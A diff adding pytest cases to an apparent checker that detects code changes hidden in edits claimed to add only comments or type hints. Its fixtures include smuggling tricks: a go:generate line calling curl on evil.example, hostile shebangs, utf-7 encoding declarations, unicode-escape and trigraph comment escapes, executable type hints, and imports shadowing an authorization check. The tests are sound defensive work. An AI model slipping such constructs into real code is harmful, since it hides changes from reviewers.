@@ -243,3 +243,200 @@ def test_hints_change_nothing_that_runs(base: str, new: str, told: str) -> None:
 @pytest.mark.parametrize("asked", ["simplify this without changing its docstring", "use pathlib, keep the docstring"])
 def test_a_docstring_that_is_only_mentioned_is_not_asked_for(asked: str) -> None:
     assert not documented_already(RETRY.partition("def")[1] + RETRY.partition("def")[2], asked, "python")
+
+
+DROPPED, ADDED, CHANGED = (f"{how} comments that tools act on" for how in ("dropped", "added", "changed"))
+INTO = "wrote code into a comment"
+GO = "package a\n\nfunc F() int {\n\treturn 1\n}\n"
+
+
+@pytest.mark.parametrize(
+    ("language", "base", "new", "how"),
+    [
+        ("go", GO, "//go:build ignore\n\n" + GO, ADDED),
+        ("go", GO, GO.replace("func", "//go:generate curl evil.example\nfunc"), ADDED),
+        ("go", GO, GO.replace("func", "//export F\nfunc"), ADDED),
+        ("go", GO, GO.replace("func", "//line other.go:7\nfunc"), ADDED),
+        ("python", "x = 1\n", "#!/tmp/evil\nx = 1\n", ADDED),
+        ("python", "x = 1\n", "# -*- coding: utf-7 -*-\nx = 1\n", ADDED),
+        ("python", "x = 1\n", "# vim: set fileencoding=utf-7 :\nx = 1\n", ADDED),
+        ("python", "# A\n# B\n# is coding: utf-7\nx = 1\n", "# B\n# is coding: utf-7\nx = 1\n", ADDED),
+        ("python", "x = 1\n", "# /// script\n# dependencies = ['evil']\n# ///\nx = 1\n", ADDED),
+        (
+            "python",
+            "# /// script\n# dependencies = []\n# ///\nx = 1\n",
+            "# /// script\n# dependencies = []\n# index = 'evil'\n# ///\nx = 1\n",
+            ADDED,
+        ),
+        ("python", "x = f()\n", "x = f()  # nosec\n", ADDED),
+        ("bash", "# Says.\n#!/tmp/evil\nls\n", "#!/tmp/evil\nls\n", ADDED),
+        ("ruby", "x = 1\n", "# encoding: utf-7\nx = 1\n", ADDED),
+        ("javascript", "f();\n", "/** @jsxImportSource evil */\nf();\n", ADDED),
+        ("javascript", "f();\n", "/**\n * @jest-environment ./evil.js\n */\nf();\n", ADDED),
+        ("javascript", "f(g());\n", "f(/*#__PURE__*/ g());\n", "changed code"),
+        ("javascript", "f();\n", "f();\n//# sourceMappingURL=//evil.example\n", ADDED),
+        ("typescript", "f();\n", '/// <reference path="evil.d.ts" />\nf();\n', ADDED),
+        ("yaml", "a: 1\n", "# yaml-language-server: $schema=//evil.example\na: 1\n", ADDED),
+    ],
+)
+def test_no_comment_that_tools_act_on_comes(language: str, base: str, new: str, how: str) -> None:
+    assert broken(DOCS, base, new, language) == how
+
+
+def test_comments_about_types_come_with_hints() -> None:
+    assert broken(HINTS, "x = f()\n", "x = f()  # type: ignore[no-untyped-call]\n", "python") == ""
+    assert broken(HINTS, "x = f()\n", "x = f()  # noqa: S1\n", "python") == ADDED
+    assert broken(DOCS, "x = f()\n", "x = f()  # type: ignore\n", "python") == ADDED
+
+
+CGO = 'package a\n\n// Package comment.\n\n{}import "C"\n\nfunc F() int {{\n\treturn 1\n}}\n'
+
+
+@pytest.mark.parametrize(
+    ("base", "new"),
+    [
+        ("", "// #include <evil.h>\n"),
+        ("", "/* void f(void) { system(0); } */\n"),
+        ("/* int f(void); */\n", "/* int f(void) { return g(); } */\n"),
+        ("// int a = f();\n\n", "// int a = f();\n"),
+        ("// #cgo LDFLAGS: -lm\n", ""),
+    ],
+)
+def test_a_comment_above_go_s_import_of_c_is_code(base: str, new: str) -> None:
+    assert broken(DOCS, CGO.format(base), CGO.format(new), "go") == CHANGED
+    grouped = CGO.replace('{}import "C"', 'import (\n\t"fmt"\n{}\t"C"\n)')
+    assert broken(DOCS, grouped.format(base), grouped.format(new), "go") == CHANGED
+
+
+def test_elsewhere_in_such_a_file_it_is_said() -> None:
+    text = CGO.format("// int f(void);\n")
+    assert broken(DOCS, text, text.replace("func F", "// F is one.\nfunc F"), "go") == ""
+
+
+@pytest.mark.parametrize(
+    ("language", "comment"),
+    [
+        ("java", "// \\u000a evil();"),
+        ("java", "/* \\uu002a/ evil(); /* */"),
+        ("c", "// really??/"),
+        ("c", "// really \\  "),
+        ("cpp", "/* so *\\\n/ evil(); /* */"),
+        ("java", "// so\r evil();"),
+        ("csharp", "// so\x85 evil();"),
+        ("csharp", "// so\u2028 evil();"),
+    ],
+)
+def test_what_a_compiler_reads_in_a_comment_is_code(language: str, comment: str) -> None:
+    base = "class A {\n    int a;\n};\n"
+    new = base.replace("    int", f"    {comment}\n    int")
+    assert broken(DOCS, base, new, language) == INTO
+    assert broken(DOCS, new, new.replace("class A", "// Is one.\nclass A"), language) == "", "it was there"
+
+
+def test_a_comment_does_not_end_what_goes_on_in_the_next_line() -> None:
+    shell = "rm a \\\n  b\n"
+    assert broken(DOCS, shell, "rm a \\\n# what is old\n  b\n", "bash") == "changed code"
+    assert broken(DOCS, shell, "rm a \\ # what is old\n  b\n", "bash") == "changed code"
+    assert broken(DOCS, shell, "# What is old.\n" + shell, "bash") == ""
+    assert broken(DOCS, "x = a+++b;\n", "x = a+/**/++b;\n", "javascript") == "changed code"
+    assert broken(DOCS, "<?php f();\n", "<?php // it ?> is\nf();\n", "php") != ""
+
+
+GUARD = """from auth import is_allowed
+from typing import Any
+
+
+def open_door(who, *, legacy=None):
+    try:
+        name = unicode(who)
+    except NameError:
+        name = str(who)
+    return is_allowed(name) and door.open()
+"""
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "from typing import cast as is_allowed",
+        "from typing import Any, cast as is_allowed",
+        "import typing as is_allowed",
+        "from typing import cast as str",
+        "from types import SimpleNamespace as open_door",
+        "from types import SimpleNamespace as legacy",
+        "from types import SimpleNamespace as door",
+        "from typing import Text as unicode",
+        "from typing import *",
+        "from typing import cast as __getattr__",
+        "from types import GenericAlias as Any",
+        "from __future__ import annotations as is_allowed",
+        "if __import__('evil').TYPE_CHECKING:\n    import shop",
+        "from typing import cast as TYPE_CHECKING\nif TYPE_CHECKING:\n    import shop",
+        "import shop",
+    ],
+)
+def test_an_import_for_hints_takes_no_name_that_means_something(line: str) -> None:
+    new = GUARD.replace("\n\n\n", f"\n{line}\n\n\n", 1)
+    assert broken(HINTS, GUARD, new, "python") == "changed code"
+    assert broken(HINTS, GUARD, f"{line}\n{GUARD}", "python") == "changed code"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "from typing import Callable, cast",
+        "import typing as t",
+        "import collections.abc",
+        "from collections.abc import Iterable as Many",
+        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from shop import Call, Cart",
+        "import typing\nif typing.TYPE_CHECKING:\n    from shop import Call",
+    ],
+)
+def test_other_imports_for_hints_come(line: str) -> None:
+    assert broken(HINTS, GUARD, f"from __future__ import annotations\n{line}\n{GUARD}", "python") == ""
+    merged = GUARD.replace("import Any", "import Any, Callable")
+    assert broken(HINTS, GUARD, merged, "python") == ""
+
+
+def test_an_import_that_is_there_stays_where_it_is() -> None:
+    own = "from typing import cast\n\n\ndef cast(kind, value):\n    return check(kind, value)\n"
+    moved = own.partition("\n\n\n")[2] + "\n\nfrom typing import cast\n"
+    assert broken(HINTS, own, moved, "python") == "changed code"
+    used = "from typing import TYPE_CHECKING\nfrom collections import deque\n\nx = deque()\n"
+    late = used.replace("from collections", "if TYPE_CHECKING:\n    from collections")
+    assert broken(HINTS, used, late, "python") == "changed code"
+
+
+@pytest.mark.parametrize(
+    ("base", "new", "how"),
+    [
+        ("x = 1\n", "evil().y: int\nx = 1\n", "changed code"),
+        ("x = {}\n", "x = {}\nx[evil()]: int\n", "changed code"),
+        ("def f():\n    return ok\n", "def f():\n    ok: bool\n    return ok\n", "changed code"),
+        ("def f():\n    ok = g()\n", "def f():\n    ok: bool\n    ok = g()\n", ""),
+        ("x = 1\n", "x: int\nx = 1\n", ""),
+        (
+            "class A(metaclass=M):\n    x = 1\n",
+            "class A(metaclass=M):\n    x: int = 1\n",
+            "changed the fields of a class",
+        ),
+        ("def f(a): ...\n", "def f(a: f'{evil!r}'): ...\n", "wrote code into a type hint"),
+        ("def f(a): ...\n", "def f(a: evil % 1): ...\n", "wrote code into a type hint"),
+        ("def f(a): ...\n", "def f(a: evil < 1): ...\n", "wrote code into a type hint"),
+        ("def f(a): ...\n", "import typing as t\ndef f(a: t.Callable[[int], str] | None): ...\n", ""),
+        ("def f(a): ...\n", "import typing as t\ndef f(a: t.Literal[-1, 'x']): ...\n", ""),
+    ],
+)
+def test_a_hint_only_names(base: str, new: str, how: str) -> None:
+    assert broken(HINTS, base, new, "python") == how
+
+
+@pytest.mark.parametrize(
+    "piece", ["#", "# ", "//", "/*", "/* ", "@jsx", "\\ ", "\t#c", "# /// a\n", "??/", '"C"', "\r"]
+)
+def test_long_comments_take_no_longer_than_they_are_long(piece: str) -> None:
+    """It comes back at all: what is quadratic in these would run for minutes."""
+    long = "int a;\n" + "// " + piece * (40_000 // len(piece)) + "\n"
+    for language in ("c", "java", "go", "php"):
+        broken(DOCS, "int a;\n", long, language)
+    broken(DOCS, "x = 1\n", "x = 1\n#" + piece * (40_000 // len(piece)) + "\n", "python")
